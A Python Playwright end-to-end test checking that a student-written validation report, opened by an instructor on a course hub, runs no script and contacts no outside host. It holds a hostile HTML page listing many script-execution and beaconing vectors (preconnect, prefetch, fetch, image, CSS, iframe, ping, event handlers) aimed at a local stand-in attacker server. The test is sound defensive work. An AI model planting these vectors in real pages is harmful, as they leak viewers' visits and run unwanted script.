"""A report in a student's folder that their own code wrote, opened by an instructor in Chromium.

It may look like anything, but runs nothing and tells nobody (security.md, "in the browser").
"""

from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator, Callable
from contextlib import asynccontextmanager
from dataclasses import dataclass, field

import pytest
from playwright.async_api import Page, expect

from tests.e2e.support.browser import People, Person
from tests.e2e.support.hub import HubProcess
from tests.e2e.support.identity import from_proxy
from tests.e2e.support.scene import TINY, notebook, put_release

pytestmark = pytest.mark.timeout(300)

LINKS = """\
<link rel="preconnect" href="HOME"><LINK rel="preconnect" crossorigin href="HOME">
<link rel="stylesheet" href="HOME/stylesheet"><link rel="icon" href="HOME/icon">
<link rel="preload" as="image" href="HOME/preload"><link rel="prefetch" href="HOME/prefetch">
<link rel="modulepreload" href="HOME/module"><link rel="prerender" href="HOME/prerender">
<link
rel="manifest" href="HOME/manifest">
"""
"""What calls on another host whatever a page's policy says, ``preconnect`` above all."""

HOSTILE = """\
<!doctype html><html><head><title>quiet</title>
<meta http-equiv="Content-Security-Policy" content="default-src * 'unsafe-inline'">
<meta http-equiv="x-dns-prefetch-control" content="on">
<meta http-equiv="refresh" content="3;url=HOME/refresh">
LINKS
<script type="speculationrules">{"prefetch": [{"source": "list", "urls": ["HOME/rules"]}]}</script>
<script>document.title = "ran"; fetch("HOME/fetch"); new Image().src = "HOME/made";</script>
<script src="HOME/script"></script><script type="module">import "HOME/import";</script>
<style>@import url("HOME/rule"); body { background: url("HOME/background"); }
@font-face { font-family: x; src: url("HOME/font"); } p { font-family: x, serif; }</style>
</head><body><p>An honest report</p>
<img src="HOME/image" onerror="document.title = 'ran'" onload="document.title = 'ran'">
<picture><source srcset="HOME/source"><img alt=""></picture><input type="image" src="HOME/input">
<svg onload="document.title = 'ran'"><image href="HOME/svg"/><use href="HOME/use#x"/></svg>
<details open ontoggle="document.title = 'ran'">x</details>
<video src="HOME/video" poster="HOME/poster" autoplay></video>
<audio src="HOME/audio" autoplay></audio>
<object data="HOME/object"></object><embed src="HOME/embed"><iframe src="HOME/frame"></iframe>
<iframe srcdoc="<script>parent.document.title = 'ran'</script><img src='HOME/inner'>"></iframe>
<form action="HOME/form"><button>Send</button></form>
<a href="javascript:document.title = 'ran'">Look</a>
<a href="/validate/mallory/ITEM" download ping="HOME/ping">Take</a>
</body></html>
"""
LOUD = ("image", "stylesheet", "fetch", "script", "frame", "font", "rule", "object", "poster")
"""What the same page asks for where nothing keeps it from it."""


@dataclass
class Home:
    """A server of the attacker's: it serves the page, and counts who comes."""

    port: int = 0
    asked: list[str] = field(default_factory=list)
    connections: int = 0

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    def page(self, links: str = "") -> str:
        """The page, which is to call here."""
        return HOSTILE.replace("LINKS", links).replace("HOME", self.url).replace("ITEM", TINY)

    async def answer(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.connections += 1
        try:
            head = await reader.readuntil(b"\r\n\r\n")
        except asyncio.IncompleteReadError:  # somebody who said nothing was here all the same
            head = b"GET /nothing "
        path = head.split()[1].decode()
        self.asked.append(path.lstrip("/"))
        body = self.page(LINKS).encode() if path == "/page" else b""
        kind = b"text/html" if body else b"text/plain"
        head = b"HTTP/1.1 200 OK\r\ncontent-type: %s\r\nconnection: close\r\n\r\n" % kind
        writer.write(head + body)
        writer.close()


@asynccontextmanager
async def home() -> AsyncIterator[Home]:
    """One that is open for as long as the context lasts."""
    home = Home()
    server = await asyncio.start_server(home.answer, "127.0.0.1", 0)
    home.port = server.sockets[0].getsockname()[1]
    async with server:
        yield home


@pytest.fixture
def hub(start_hub: Callable[..., HubProcess]) -> HubProcess:
    """A hub on which mallory has a copy of an item."""
    hub = start_hub(settings={"hub.instructors": ["prof"]})
    put_release(hub.course, TINY, notebook(header=""))
    with hub.client(from_proxy("mallory")) as client:
        client.post(f"/download-release/mallory/{TINY}").raise_for_status()
    return hub


async def test_it_runs_nothing_and_tells_nobody_who_looked_at_it(
    hub: HubProcess, people: People
) -> None:
    async with home() as theirs, home() as control:
        prof = await people.person("prof", headers=from_proxy("prof"))
        write(hub, theirs.page())
        page = await prof.open(f"{hub.url}/validate-report/mallory/{TINY}")
        await expect(page.get_by_text("An honest report")).to_be_visible()
        await try_everything(page)
        write(hub, theirs.page(LINKS))
        refused = await prof.open(f"{hub.url}/validate-report/mallory/{TINY}")
        await expect(refused.get_by_text("No validation report")).to_be_visible()
        await all_has_happened(prof, control)
        assert (theirs.connections, theirs.asked) == (0, [])
        assert await page.title() == "quiet"
        assert page.url.startswith(hub.url)


async def all_has_happened(person: Person, control: Home) -> None:
    """Open the same page where nothing confines it; it waits three seconds, then leads away."""
    page = await person.open(f"{control.url}/page")
    await expect(page).to_have_title("ran")
    await page.wait_for_url("**/refresh")
    assert set(LOUD) <= set(control.asked), control.asked


def write(hub: HubProcess, page: str) -> None:
    """What mallory's code leaves in the place of the report."""
    (hub.course / "hub-notebooks" / "mallory" / TINY / f"{TINY}.html").write_text(page)


async def try_everything(page: Page) -> None:
    """Press what there is to press, as somebody who believes the page."""
    for name in ("Send", "Look", "Take"):
        await page.get_by_text(name, exact=True).click()
